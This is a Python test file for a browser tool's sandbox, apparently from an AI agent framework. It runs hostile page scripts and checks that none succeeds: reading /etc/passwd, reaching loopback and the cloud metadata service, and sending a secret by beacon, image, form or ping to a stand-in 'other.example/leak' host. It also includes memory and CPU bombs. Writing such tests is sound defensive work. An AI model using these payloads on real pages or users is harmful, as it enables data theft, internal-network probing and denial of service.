"""What a hostile page tries from inside the browser: the host's files, the machine's network, other
sites, and everything at once.

Each attempt is a script on a page that was opened like any other. It says what it got; the canaries
say who knocked.
"""

import asyncio
import time
from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from palyra.core.tools import ToolResult
from palyra.tools.browser import driver, tools
from palyra.tools.catalogue import Catalogue
from palyra.tools.sandbox.command import Caps
from tests.browser_world import Surfing, alive, below, surfing
from tests.net_world import Asked, Site, answer, html, redirect

SECRET = "canary-secret-7f3a"
LONGEST_S = 20.0
GOT = "const got = text => { if (text) document.getElementById('said').append(' got:' + text); };"
FETCH = "await fetch('{}').then(answer => answer.text()).then(got)"

# What runs in the page; a rejection is caught and said. SITE, OPEN and UDP stand for ports: the
# page's own, the canaries'.
ATTEMPTS = {
    "a file by fetch": FETCH.format("file:///etc/passwd"),
    "a file by XMLHttpRequest": """const x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', false); x.send();
        got(x.responseText)""",
    "a file in a frame": """const f = document.createElement('iframe'); f.src = 'file:///etc/passwd'; document.body.append(f);
        await wait(300); if (f.contentDocument) got(f.contentDocument.body.innerText)""",
    "a file as the page": "location.href = 'file:///etc/passwd'; await wait(300)",
    "a file by a link": "const a = document.createElement('a'); a.href = 'file:///etc/passwd'; a.click(); await wait(300)",
    "a file as an image": "const i = new Image(); i.onload = () => got('loaded'); i.src = 'file:///etc/hostname'; await wait(300)",
    "a file as a script": """const s = document.createElement('script'); s.onload = () => got('loaded');
        s.src = 'file:///etc/passwd'; document.body.append(s); await wait(300)""",
    "a file as a module": "got(Object.keys(await import('file:///usr/lib/os-release')).join())",
    "a file from the file picker": "const [h] = await showOpenFilePicker(); got((await (await h.getFile()).text()))",
    "the browser's own settings": "location.href = 'chrome://settings'; await wait(300)",
    "the browser's own page in a window": """const w = open('chrome://version'); await wait(300);
        if (w) got(w.document.body.innerText)""",
    "the source of a file": "location.href = 'view-source:file:///etc/passwd'; await wait(300)",
    "loopback by address": FETCH.format("http://127.0.0.1:OPEN/"),
    "loopback without reading the answer": "await fetch('http://127.0.0.1:OPEN/', {mode: 'no-cors'})",
    "loopback by name": FETCH.format("http://localhost:OPEN/"),
    "loopback by a number": FETCH.format("http://2130706433:OPEN/"),
    "loopback by IPv6": FETCH.format("http://[::1]:OPEN/"),
    "loopback by IPv6 in IPv4": FETCH.format("http://[::ffff:127.0.0.1]:OPEN/"),
    "every address of this machine": FETCH.format("http://0.0.0.0:OPEN/"),
    "a name that leads to loopback": FETCH.format("http://inner.example:OPEN/"),
    "its own name on another port": FETCH.format("http://site.example:OPEN/"),
    "a redirect to loopback": FETCH.format("/to-loopback"),
    "a frame with loopback": """const f = document.createElement('iframe'); f.src = 'http://127.0.0.1:OPEN/';
        document.body.append(f); await wait(300)""",
    "a connection ahead of time": """const l = document.createElement('link'); l.rel = 'preconnect';
        l.href = 'http://127.0.0.1:OPEN/';
        document.head.append(l); await wait(300)""",
    "the metadata service": FETCH.format("http://169.254.169.254/latest/meta-data/"),
    "the metadata service by name": FETCH.format("http://metadata.google.internal/"),
    "the proxy as a server": FETCH.format("http://127.0.0.1:3128/"),
    "a WebSocket to loopback": """const s = new WebSocket('ws://127.0.0.1:OPEN/');
        await new Promise((yes, no) => { s.onopen = () => { got('open'); yes(); }; s.onerror = no; })""",
    "a WebSocket to an unlisted host": """const s = new WebSocket('ws://other.example:SITE/');
        await new Promise((yes, no) => { s.onopen = () => { got('open'); yes(); }; s.onerror = no; })""",
    "WebRTC to loopback": """const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});
        p.createDataChannel('x');
        p.onicecandidate = e => { if (e.candidate && / (srflx|relay) /.test(e.candidate.candidate)) got(e.candidate.candidate); };
        await p.setLocalDescription(await p.createOffer()); await wait(600)""",
    "WebRTC through TURN over TCP": """const p = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:OPEN?transport=tcp',
        username: 'a', credential: 'b'}]}); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer());
        await wait(600)""",
    "WebTransport to loopback": "const t = new WebTransport('https://127.0.0.1:UDP/'); await Promise.race([t.ready, wait(600)])",
    "a beacon to an unlisted host": "navigator.sendBeacon('http://other.example:SITE/leak', 'SECRET'); await wait(300)",
    "an image from an unlisted host": "new Image().src = 'http://other.example:SITE/leak?SECRET'; await wait(300)",
    "a style from an unlisted host": """const s = document.createElement('style');
        s.textContent = "@import 'http://other.example:SITE/leak'";
        document.head.append(s); await wait(300)""",
    "a form to an unlisted host": """document.body.insertAdjacentHTML('beforeend',
        '<form method=post action="http://other.example:SITE/leak" target=none><input name=a value=SECRET></form>');
        const f = document.createElement('iframe'); f.name = 'none'; document.body.append(f);
        document.forms[document.forms.length - 1].submit(); await wait(300)""",
    "a ping to an unlisted host": """const a = document.createElement('a'); a.href = '#here';
        a.ping = 'http://other.example:SITE/leak';
        document.body.append(a); a.click(); await wait(300)""",
    "a worker that stays": "await navigator.serviceWorker.register('/worker.js'); got('registered')",
    "where the machine is": """await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(p => { got('here');
        yes(); }, no, {timeout: 500}))""",
    "camera and microphone": "await navigator.mediaDevices.getUserMedia({video: true, audio: true}); got('camera')",
    "notifications": "if (await Notification.requestPermission() === 'granted') got('granted')",
    "what was copied": "got('clipboard ' + await navigator.clipboard.readText())",
    "two hundred windows": "for (let n = 0; n < 200; n++) open('/'); await wait(300)",
    "fifty downloads": """for (let n = 0; n < 50; n++) { const a = document.createElement('a'); a.href = '/file';
        a.download = n; a.click(); }
        await wait(300)""",
    "two hundred boxes": "for (let n = 0; n < 200; n++) alert(n)",
    "a page that does not let go": "onbeforeunload = e => { e.preventDefault(); return 'stay'; }; history.pushState({}, '', '/#x')",
}
PAGE = """<title>attempt</title><p id=said>begun</p><script>GOT
const wait = ms => new Promise(done => setTimeout(done, ms));
(async () => { try { BODY } catch (error) { document.getElementById('said').append(' refused'); }
document.getElementById('said').append(' tried'); })();</script>"""


class UdpCanary(asyncio.DatagramProtocol):
    """Hears every datagram that reaches it."""

    def __init__(self) -> None:
        self.datagrams = 0
        self.port = 0

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.port = transport.get_extra_info("sockname")[1]

    def datagram_received(self, data: bytes, address: object) -> None:
        self.datagrams += 1


@dataclass(frozen=True)
class Hostile:
    """The browser, and what must never be reached from it."""

    surf: Surfing
    canary: Site
    udp: UdpCanary


@pytest.fixture(scope="module")
def hostile() -> Iterator[Hostile]:
    udp = UdpCanary()
    canary = Site({"": answer(SECRET)})

    async def serve(asked: Asked, writer: asyncio.StreamWriter) -> None:
        path = asked.target.removeprefix("/")
        if path == "to-loopback":
            writer.write(redirect(f"http://127.0.0.1:{canary.port}/"))
        elif path == "file":
            writer.write(
                answer(b"x", 200, content_type="application/zip", content_disposition="attachment")
            )
        elif path.isdecimal():
            body = list(ATTEMPTS.values())[int(path)]
            page = PAGE.replace("GOT", GOT).replace("BODY", body)
            for word, port in (
                ("SITE", opened.site.port),
                ("OPEN", canary.port),
                ("UDP", udp.port),
            ):
                page = page.replace(word, str(port))
            writer.write(html(page))
        else:
            writer.write(html("<p>fine</p>"))

    with surfing(serve) as opened:
        opened.wait(canary.__aenter__())

        async def listen() -> asyncio.BaseTransport:
            transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
                lambda: udp, ("127.0.0.1", 0)
            )
            return transport

        transport = opened.wait(listen())
        yield Hostile(opened, canary, udp)
        transport.close()
        opened.wait(canary.__aexit__())


def tried(surf: Surfing, path: str) -> ToolResult:
    """The page when its attempt is over, or when it could not stay."""
    result = surf.open(path)
    end = time.monotonic() + LONGEST_S
    while " tried" not in result.text and result.outcome == "ok" and time.monotonic() < end:
        result = surf.call("read", page=result.data["page"])
    return result


@pytest.mark.parametrize("name", ATTEMPTS)
def test_a_page_does_not_get(hostile: Hostile, name: str) -> None:
    surf = hostile.surf
    before = len(surf.site.asked)
    result = tried(surf, f"/{list(ATTEMPTS).index(name)}")
    # The attempt was made, or the page could not even stay to make it.
    assert " tried" in result.text, result.text
    assert " got:" not in result.text, result.text
    assert "root:" not in result.text
    assert SECRET not in result.text
    assert (hostile.canary.connections, hostile.udp.datagrams) == (0, 0)
    strangers = [
        asked
        for asked in surf.site.asked[before:]
        if not asked.headers["host"].startswith("site.example")
    ]
    assert strangers == []
    # The browser is as good as new.
    assert "fine" in surf.open("/fine").text


def test_a_page_gets_what_is_its_own(hostile: Hostile) -> None:
    """The attempts above mean something only if a page can fetch at all."""
    ATTEMPTS["something of its own"] = FETCH.format("/fine")
    try:
        result = tried(hostile.surf, f"/{len(ATTEMPTS) - 1}")
        assert "got:<p>fine</p> tried" in result.text
    finally:
        del ATTEMPTS["something of its own"]


BOMBS = {
    "memory": "const kept = []; for (;;) { kept.push(new Uint8Array(16 << 20).fill(1)); } document.write('survived')",
    "processor": "for (;;) {}",
    "processor in many workers": """const w = URL.createObjectURL(new Blob(['for (;;) {}'])); for (let n = 0; n < 500;
        n++) new Worker(w); for (;;) {}""",
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_page_that_wants_everything_is_ended(name: str) -> None:
    pages = {"/": html(f"<p>bomb<script>{BOMBS[name]}</script>"), "": html("<p>fine</p>")}
    with surfing(pages) as surf:
        caps = Caps(
            **{field: getattr(driver.CAPS, field) for field in Caps.__struct_fields__}
            | {"memory_bytes": 700 << 20}
        )
        browsers = surf.another(page_s=2.0, caps=caps)
        catalogue = Catalogue(tools.tools(browsers))

        async def visit() -> list[int]:
            first = await surf.calling(catalogue, "open", url=surf.url())
            assert "survived" not in first.text
            second = await surf.calling(catalogue, "open", url=surf.url("/fine"))
            while second.outcome != "ok":
                # The whole browser went down with the page, or the machine is busy; the next call
                # starts another.
                second = await surf.calling(catalogue, "open", url=surf.url("/fine"))
            assert "fine" in second.text, second.text
            pids = [
                pid
                for opened in browsers._open.values()
                for pid in (opened.driven.pid, *below(opened.driven.pid))
            ]
            await browsers.close()
            return pids

        assert not any(map(alive, surf.wait(visit(), 90)))
